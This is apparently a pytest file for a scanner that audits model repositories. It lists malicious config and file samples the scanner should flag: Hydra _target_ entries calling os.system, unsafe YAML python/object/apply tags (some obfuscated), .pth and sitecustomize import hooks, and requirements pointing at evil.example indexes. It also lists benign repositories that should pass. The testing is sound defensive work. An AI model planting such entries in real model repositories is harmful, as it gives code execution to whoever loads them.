"""What lies beside weights and is run, obeyed or imported by its name; and what honest repositories hold."""

from __future__ import annotations

import json

import pytest
from audit_builder import audit, llama_folder


def found(path):
    return {(f.code, f.severity) for f in audit(path).findings if f.code in {"CD001", "CD012", "CD013"}}


BAD = {
    "hydra": ("config.yaml", "model:\n  _target_: os.system\n  command: id\n", "CD012", "error"),
    "hydra in one line": ("conf/a.yml", "{_target_: subprocess.run, args: [id]}", "CD012", "error"),
    "hydra, quoted": ("a.yaml", "'_target_' : 'builtins.eval'\n", "CD012", "error"),
    "hydra, escaped": ("a.yaml", '"_target_": "\\x6fs.system"\n', "CD012", "error"),
    "hydra, key escaped": ("a.yaml", '"\\x5ftarget_": "os.system"\n', "CD012", "error"),
    "hydra in JSON": ("hparams.json", '{"a": {"_target_": "pty.spawn"}}', "CD012", "error"),
    "hydra in config.json": ("config.json", '{"x": {"_target_": "os.system"}}', "CD012", "error"),
    "hydra, a loader": ("a.yaml", "_target_: torch.hub.load\n", "CD012", "error"),
    "hydra, a look-up": ("a.yaml", "_target_: hydra.utils.get_method\npath: os.system\n", "CD012", "error"),
    "hydra, a package": ("a.yaml", "_target_: my_models.Net\n", "CD012", "info"),
    "yaml apply": ("a.yaml", "a: !!python/object/apply:os.system ['id']\n", "CD012", "error"),
    "yaml name": ("a.yaml", "a: !!python/name:subprocess.Popen\n", "CD012", "error"),
    "yaml, long tag": ("a.yaml", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']\n", "CD012", "error"),
    "yaml without its name": ("hparams", "lr: 1\nhp: !!python/object/apply:os.system ['id']\n", "CD012", "error"),
    "yaml of a list": ("run.cfg", "# x\n- 1\n- !!python/object/new:subprocess.Popen [id]\n", "CD012", "error"),
    "yaml that is a tag": ("notes.txt", "!!python/object/apply:os.system ['id']\n", "CD012", "error"),
    "yaml, flow style": ("configuration", "{a: [1, !!python/name:os.system ]}\n", "CD012", "error"),
    "yaml, a tag of its own": (
        "configuration", "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]\n", "CD012", "error"),
    "yaml, an escaped tag": ("x.conf", "a: !!py%74hon/object/apply:os.system [id]\n", "CD012", "error"),
    "yaml behind an anchor": ("x.ini", "a: &b !!python/name:os.system\n", "CD012", "error"),
    "sentence-transformers": ("modules.json", '[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]', "CD012",
                              "error"),
    "diffusers component": ("model_index.json", '{"_class_name": "X", "unet": ["subprocess", "Popen"]}', "CD012",
                            "error"),
    "diffusers function": ("model_index.json", '{"_class_name": "X", "unet": ["torch.hub", "load"]}', "CD012", "error"),
    "diffusers class": ("model_index.json", '{"_class_name": "../../x"}', "CD012", "error"),
    "diffusers own file": ("model_index.json", '{"_class_name": ["pipe", "Pipe"]}', "CD012", "warning"),
    "sitecustomize": ("sitecustomize.py", "", "CD013", "error"),
    "path file": ("x.pth", "import os; os.system('id')\n", "CD013", "error"),
    "path file, later line": ("x.pth", "./lib\nimport\tsubprocess\n", "CD013", "error"),
    "handler": ("handler.py", "import os\nclass EndpointHandler:\n  def run(self): os.system('id')\n", "CD013",
                "warning"),
    "handler, renamed": ("handler.py", "from subprocess import run as r\nr(['id'])\n", "CD013", "warning"),
    "plain handler": ("handler.py", "class EndpointHandler: pass\n", "CD013", "info"),
    "index": ("requirements.txt", "torch\n--extra-index-url https://evil.example/simple\n", "CD013", "warning"),
    "short index": ("requirements.txt", "-i http://10.0.0.1:8080/simple\ntorch\n", "CD013", "warning"),
    "index by =": ("requirements-gpu.txt", "--index-url=https://pypi.org.evil.example/x\n", "CD013", "warning"),
    "index with a user": ("requirements.txt", "-i https://pypi.org@evil.example/x\n", "CD013", "warning"),
    "an address": ("requirements.txt", "x @ git+https://github.com/a/b\n", "CD013", "info"),
    "shell": ("run.sh", "#!/bin/sh\n", "CD013", "info"),
    "windows": ("run.bat", "dir\n", "CD013", "info"),
    "compiled": ("__pycache__/x.cpython-312.pyc", "x", "CD013", "info"),
    "wasm": ("x.wasm", "\0asm", "CD013", "info"),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_what_is_run_or_imported_is_said(tmp_path, name):
    file, content, code, severity = BAD[name]
    llama_folder(tmp_path, **{file: content})
    assert found(tmp_path) == {(code, severity)}


HONEST = {
    "nemo": ("model_config.yaml", "encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n"),
    "lightning": ("config.yaml", "_target_: torch.optim.AdamW\nb:\n  _target_: functools.partial\n"),
    "a word": ("a.yaml", "# the target of os.system\nname: os.system\n"),
    "sentence-transformers": ("modules.json", json.dumps([
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}])),
    "diffusers": ("model_index.json", json.dumps({
        "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.6", "requires_safety_checker": True,
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "unet": ["diffusers", "UNet2DModel"],
        "text_encoder": ["transformers", "CLIPTextModel"], "image_encoder": [None, None]})),
    "requirements": ("requirements.txt", "torch==2.9\n# -i https://evil.example\n-i https://pypi.org/simple\n"),
    "PyTorch's index": ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu121\n"),
    "path file": ("x.pth", "./lib\n# import os\n"),
    "some script": ("train.py", "import os\nos.system('id')\n"),
    "prose about tags": ("NOTES.txt", "Beware: of !!python/object/apply\nUse safe_load, not !!python/name:os.system\n"),
    "a document about tags": ("NOTES", "title: tags\nbody: the tag !!python/name:os.system is bad\n"),
    "prose with an example": ("WARNING.txt", "Do not load files like this one.\n\nhp: !!python/name:os.system\n"),
    "a tag in a comment": ("x.cfg", "lr: 1\n# a: !!python/name:os.system\n"),
    "tags of plain values": ("hparams", "a: !!python/tuple [1, 2]\nb: !!str x\n"),
    "a package that looks up its parts": ("m/__init__.py", "import importlib\nimportlib.import_module('m.x')\n"),
    "labels": ("labels.json", '{"0": "os.system", "1": "!!python/object"}'),
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_what_honest_repositories_hold_is_silent(tmp_path, name):
    file, content = HONEST[name]
    llama_folder(tmp_path, **{file: content})
    assert found(tmp_path) == set()


def test_scripts_of_one_kind_are_one_finding(tmp_path):
    llama_folder(tmp_path, **{f"{i}.sh": "x" for i in range(30)})
    assert [f.message for f in audit(tmp_path).findings] == [
        "a shell script, which runs when it is started, with 29 more files of its kind"]  # fmt: skip
